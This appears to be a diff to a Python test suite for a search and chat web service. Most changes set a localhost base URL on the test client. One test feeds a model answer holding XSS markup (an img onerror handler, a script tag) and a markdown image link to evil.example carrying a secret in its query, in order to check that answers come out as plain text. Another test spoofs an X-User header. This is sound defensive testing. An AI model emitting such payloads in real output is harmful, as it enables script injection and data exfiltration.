@@ -41,7 +41,7 @@ def test_nothing_but_the_token_says_who_is_asking(site):
     memex, items, service, tokens = site
     token, _ = tokens.create("only-a", expires=None)
     secret = _item(items, "abcd-l3")  # only "everything" may read it
-    with TestClient(create_app(service)) as client:
+    with TestClient(create_app(service), base_url="http://localhost") as client:
         sneaky_headers = {
             **bearer(token),
             "X-User": "everything",
@@ -115,7 +115,7 @@ def test_nothing_but_the_token_says_who_is_asking(site):
 def test_bad_requests_say_what_is_wrong(site, path, body, message):
     _, _, service, tokens = site
     token, _ = tokens.create("only-a", expires=None)
-    with TestClient(create_app(service)) as client:
+    with TestClient(create_app(service), base_url="http://localhost") as client:
         response = client.post(path, json=body, headers=bearer(token))
         assert (response.status_code, response.json()) == (400, {"error": message})
 
@@ -139,7 +139,7 @@ def test_bad_requests_say_what_is_wrong(site, path, body, message):
 def test_openai_bad_requests_in_openai_shape(site, body, message):
     _, _, service, tokens = site
     token, _ = tokens.create("only-a", expires=None)
-    with TestClient(create_app(service)) as client:
+    with TestClient(create_app(service), base_url="http://localhost") as client:
         response = client.post("/v1/chat/completions", json=body, headers=bearer(token))
         assert response.status_code == 400
         assert response.json() == {
@@ -153,7 +153,7 @@ def test_the_answer_streams_as_server_sent_events(site):
     memex, items, service, tokens = site
     token, _ = tokens.create("everything", expires=None)
     item = _item(items, "ab-l3")
-    with TestClient(create_app(service)) as client:
+    with TestClient(create_app(service), base_url="http://localhost") as client:
         memex.model.enqueue(
             "Ab l3 says the fox is [1] red. More later.\nSecond line here."
         )  # the worker's model
@@ -173,14 +173,14 @@ def test_the_answer_streams_as_server_sent_events(site):
         == "Ab l3 says the fox is [1] red. More later.\nSecond line here."
     )
     assert final["citations"][0]["source"] == item.chunk.uri
-    assert set(final) == {"question", "answer", "citations", "evidence", "dates"}
+    assert set(final) == {"question", "answer", "citations", "evidence", "dates", "dates_note", "check"}
 
 
 def test_an_answer_is_text_never_markup(site):
     memex, items, service, tokens = site
     token, _ = tokens.create("everything", expires=None)
     item = _item(items, "ab-l3")
-    with TestClient(create_app(service)) as client:
+    with TestClient(create_app(service), base_url="http://localhost") as client:
         memex.model.enqueue(
             '<img src=x onerror="alert(1)">Hi ![p](https://evil.example/?q=secret) <script>x()</script>'
         )
@@ -205,7 +205,7 @@ def test_a_new_user_works_at_once_and_a_removed_one_stops_at_once(tmp_path):
     service, tokens = make_service(memex, policy_path=policy_path)
     new_token, _ = tokens.create("newcomer", expires=None)
     item = _item(items, "c-l2")
-    with TestClient(create_app(service)) as client:
+    with TestClient(create_app(service), base_url="http://localhost") as client:
         before = client.post("/api/search", json={"query": item.query}, headers=bearer(new_token))
         assert (before.status_code, before.json()) == (403, {"error": "user 'newcomer' is not in the policy"})
         add_user(policy_path, "newcomer", roles=["everything"])
@@ -227,7 +227,7 @@ def test_a_new_user_works_at_once_and_a_removed_one_stops_at_once(tmp_path):
 
 def test_unknown_routes_and_methods_answer_json(site):
     _, _, service, tokens = site
-    with TestClient(create_app(service)) as client:
+    with TestClient(create_app(service), base_url="http://localhost") as client:
         assert (client.get("/api/nothing").status_code, client.get("/api/nothing").json()) == (
             404,
             {"error": "Not Found"},
@@ -299,7 +299,7 @@ def test_the_official_mcp_client(site):
 
 def test_the_mcp_endpoint_refuses_without_a_token(site):
     _, _, service, _ = site
-    with TestClient(create_app(service)) as client:
+    with TestClient(create_app(service), base_url="http://localhost") as client:
         response = client.post(
             "/mcp",
             json={"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}},
